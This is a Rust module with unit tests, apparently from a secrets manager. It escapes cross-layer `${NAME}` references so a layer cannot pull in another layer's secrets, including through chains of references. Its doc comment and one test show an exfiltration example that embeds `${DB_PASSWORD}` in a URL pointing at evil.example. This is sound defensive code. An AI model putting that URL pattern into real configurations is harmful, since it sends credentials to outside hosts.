//! References between layers, which clients expand after they have merged all layers.
//!
//! A layer's writer could name a secret that only another layer's readers may see, and have it sent
//! anywhere: `PUBLIC_URL=https://evil.example/?k=${DB_PASSWORD}` (row L09). So a reference stays one
//! only where its layer may refer to the layer that gives the value, and to all that this value
//! refers to in turn; every other one is written so that clients show it as the text it is.

use std::collections::{BTreeMap, BTreeSet};

use strongroom_secret::SecretBytes;

use super::source::Layer;

/// The layers' values as they may be sent. Values that are not text come back as they are.
pub(super) fn guarded(layers: &[Layer], values: Vec<Vec<SecretBytes>>) -> Vec<Vec<SecretBytes>> {
    let merged = Merged::of(layers, &values);
    let values = values.into_iter().enumerate().map(|(at, values)| {
        let out_of_reach = merged.out_of_reach(&layers[at]);
        values.into_iter().map(|value| escaped(value, &out_of_reach)).collect()
    });
    values.collect()
}

/// What a client will have when it has merged the layers: the last one that has a name gives it.
struct Merged<'a> {
    layer_of: BTreeMap<&'a str, usize>,
    /// For each name, who refers to it.
    referrers: BTreeMap<String, Vec<&'a str>>,
}

impl<'a> Merged<'a> {
    fn of(layers: &'a [Layer], values: &[Vec<SecretBytes>]) -> Self {
        let mut winners: BTreeMap<&str, (usize, &SecretBytes)> = BTreeMap::new();
        for (at, (layer, values)) in layers.iter().zip(values).enumerate() {
            for (name, value) in layer.names.iter().zip(values) {
                winners.insert(name, (at, value));
            }
        }
        let mut referrers: BTreeMap<String, Vec<&str>> = BTreeMap::new();
        for (name, (_, value)) in &winners {
            value.lend(|bytes| {
                for reference in references(str::from_utf8(bytes).unwrap_or_default()) {
                    referrers.entry(reference.name.to_owned()).or_default().push(*name);
                }
            });
        }
        let layer_of = winners.into_iter().map(|(name, (at, _))| (name, at)).collect();
        Self { layer_of, referrers }
    }

    /// The names whose expanded value holds something of a layer that `layer` may not refer to.
    fn out_of_reach(&self, layer: &Layer) -> BTreeSet<String> {
        let may_not = |at: usize| !layer.may_refer.get(at).copied().unwrap_or_default();
        let first = self.layer_of.iter().filter(|(_, at)| may_not(**at));
        let mut found: BTreeSet<String> = first.map(|(name, _)| (*name).to_owned()).collect();
        let mut next: Vec<String> = found.iter().cloned().collect();
        while let Some(name) = next.pop() {
            for referrer in self.referrers.get(&name).into_iter().flatten() {
                if found.insert((*referrer).to_owned()) {
                    next.push((*referrer).to_owned());
                }
            }
        }
        found
    }
}

/// `${NAME}` at a place in a text.
struct Reference<'a> {
    at: usize,
    name: &'a str,
}

/// The references of a text, as clients read it from left to right: `$${` is an escape, and what is
/// no name between the braces is text.
fn references(text: &str) -> Vec<Reference<'_>> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(dollar) = text[at..].find('$').map(|found| at + found) {
        let rest = &text[dollar + 1..];
        if rest.starts_with("${") {
            at = dollar + 3;
            continue;
        }
        match rest.strip_prefix('{').and_then(name_before_brace) {
            Some(name) => {
                found.push(Reference { at: dollar, name });
                at = dollar + name.len() + 3;
            }
            None => at = dollar + 1,
        }
    }
    found
}

/// The name that `text` begins with, if a `}` follows it.
fn name_before_brace(text: &str) -> Option<&str> {
    let letter = |b: u8| b.is_ascii_alphabetic() || b == b'_';
    let end = text.bytes().position(|b| !letter(b) && !b.is_ascii_digit())?;
    let is_name = text.bytes().next().is_some_and(letter);
    (is_name && text[end..].starts_with('}')).then(|| &text[..end])
}

/// The value with a `$` before every reference to one of `names`.
fn escaped(value: SecretBytes, names: &BTreeSet<String>) -> SecretBytes {
    let rewritten = value.lend(|bytes| {
        let text = str::from_utf8(bytes).ok()?;
        let mut places = references(text);
        places.retain(|reference| names.contains(reference.name));
        if places.is_empty() {
            return None;
        }
        // Room for all of it, so that no growth leaves a copy behind.
        let mut out = Vec::with_capacity(text.len() + places.len());
        let mut from = 0;
        for place in &places {
            out.extend_from_slice(&bytes[from..place.at]);
            out.push(b'$');
            from = place.at;
        }
        out.extend_from_slice(&bytes[from..]);
        Some(SecretBytes::from_vec(out))
    });
    rewritten.unwrap_or(value)
}

#[cfg(test)]
mod tests {
    use strongroom_format::id::EnvId;

    use super::*;

    /// Layers of names and values; `may` holds the pairs (from, to) besides a layer and itself.
    fn guard(layers: &[&[(&str, &str)]], may: &[(usize, usize)]) -> Vec<Vec<String>> {
        let values = layers.iter().map(|layer| {
            layer.iter().map(|(_, value)| SecretBytes::copy_of(value.as_bytes())).collect()
        });
        let values = values.collect();
        let count = layers.len();
        let outline: Vec<Layer> = (0u8..)
            .zip(layers)
            .map(|(at, layer)| Layer {
                env: EnvId([at; 16]),
                slug: String::new(),
                group: None,
                names: layer.iter().map(|(name, _)| (*name).to_owned()).collect(),
                may_refer: (0..count)
                    .map(|to| to == usize::from(at) || may.contains(&(usize::from(at), to)))
                    .collect(),
            })
            .collect();
        let text = |value: &SecretBytes| value.lend(|b| String::from_utf8(b.to_vec()).unwrap());
        guarded(&outline, values).iter().map(|layer| layer.iter().map(text).collect()).collect()
    }

    #[test]
    fn confused_deputy_a_group_does_not_read_the_applications_password() {
        let group: &[(&str, &str)] = &[("PUBLIC_URL", "https://x.example/?k=${DB_PASSWORD}")];
        let app: &[(&str, &str)] = &[("DB_PASSWORD", "hunter2")];
        let guarded = guard(&[group, app], &[(1, 0)]);
        assert_eq!(guarded[0], ["https://x.example/?k=$${DB_PASSWORD}"]);
        assert_eq!(guarded[1], ["hunter2"]);
        // The other way round the reference stays one, and so it does where everybody who writes
        // the group may read the application.
        let app: &[(&str, &str)] = &[("URL", "${HOST}/x"), ("DB_PASSWORD", "hunter2")];
        let group: &[(&str, &str)] = &[("HOST", "h"), ("PUBLIC_URL", "${DB_PASSWORD}")];
        assert_eq!(guard(&[group, app], &[(1, 0)])[1][0], "${HOST}/x");
        assert_eq!(guard(&[group, app], &[(0, 1), (1, 0)])[0][1], "${DB_PASSWORD}");
    }

    #[test]
    fn every_pair_of_three_layers_refers_exactly_where_it_may() {
        let layer = |at: usize| {
            let name = format!("SECRET_{at}");
            let all = format!("${{SECRET_0}} ${{SECRET_1}} ${{SECRET_2}} {at}");
            [(name, format!("value {at}")), (format!("ALL_{at}"), all)]
        };
        let layers: Vec<[(String, String); 2]> = (0..3).map(layer).collect();
        let layers: Vec<Vec<(&str, &str)>> = layers
            .iter()
            .map(|layer| layer.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect())
            .collect();
        let layers: Vec<&[(&str, &str)]> = layers.iter().map(Vec::as_slice).collect();
        let pairs = [(0, 1), (0, 2), (1, 0), (1, 2), (2, 0), (2, 1)];
        for mask in 0..64_u32 {
            let may: Vec<(usize, usize)> =
                (0..6).filter(|bit| mask >> bit & 1 == 1).map(|bit| pairs[bit]).collect();
            let guarded = guard(&layers, &may);
            for (from, layer) in guarded.iter().enumerate() {
                for to in 0..3 {
                    let is_open = !layer[1].contains(&format!("$${{SECRET_{to}}}"));
                    assert_eq!(is_open, from == to || may.contains(&(from, to)), "{may:?}");
                }
            }
        }
    }

    #[test]
    fn what_a_value_refers_to_in_turn_counts_as_well() {
        // The group may refer to the middle, the middle to the application, the group not.
        let group: &[(&str, &str)] = &[("A", "${B}")];
        let middle: &[(&str, &str)] = &[("B", "${C}")];
        let app: &[(&str, &str)] = &[("C", "secret")];
        let guarded = guard(&[group, middle, app], &[(0, 1), (1, 2)]);
        assert_eq!((guarded[0][0].as_str(), guarded[1][0].as_str()), ("$${B}", "${C}"));
        // A name that another layer takes over is that layer's.
        let group: &[(&str, &str)] = &[("A", "${B}"), ("B", "mine")];
        let app: &[(&str, &str)] = &[("B", "secret")];
        assert_eq!(guard(&[group, app], &[])[0][0], "$${B}");
        // Rings end.
        let ring: &[(&str, &str)] = &[("A", "${B}"), ("B", "${A}${C}")];
        let app: &[(&str, &str)] = &[("C", "${A}")];
        assert_eq!(guard(&[ring, app], &[])[0], ["$${B}", "$${A}$${C}"]);
    }

    #[test]
    fn text_that_is_no_reference_stays_byte_for_byte() {
        let app: &[(&str, &str)] = &[("K", "secret")];
        for text in [
            "$${K}",
            "$$${K}",
            "${K",
            "${K:-x}",
            "${}",
            "${1}",
            "${a.b}",
            "$K",
            "$",
            "$$",
            "${ K}",
            "${UNKNOWN}",
            "",
            "\u{e4}${",
            "$${",
        ] {
            let group: &[(&str, &str)] = &[("A", text)];
            assert_eq!(guard(&[group, app], &[])[0][0], text);
        }
        for (text, wanted) in [
            ("${ ${K}", "${ $${K}"),
            ("$${K}${K}", "$${K}$${K}"),
            ("${K}${K}\u{1f30d}", "$${K}$${K}\u{1f30d}"),
            ("$${${K}", "$${$${K}"),
        ] {
            let group: &[(&str, &str)] = &[("A", text)];
            assert_eq!(guard(&[group, app], &[])[0][0], wanted, "{text}");
        }
    }

    #[test]
    fn a_mebibyte_of_dollars_takes_no_time() {
        let text = "${".repeat(1 << 19);
        let group: &[(&str, &str)] = &[("A", &text)];
        let app: &[(&str, &str)] = &[("K", "secret")];
        let began = std::time::Instant::now();
        assert_eq!(guard(&[group, app], &[])[0][0], text);
        assert!(began.elapsed() < std::time::Duration::from_secs(5));
    }
}
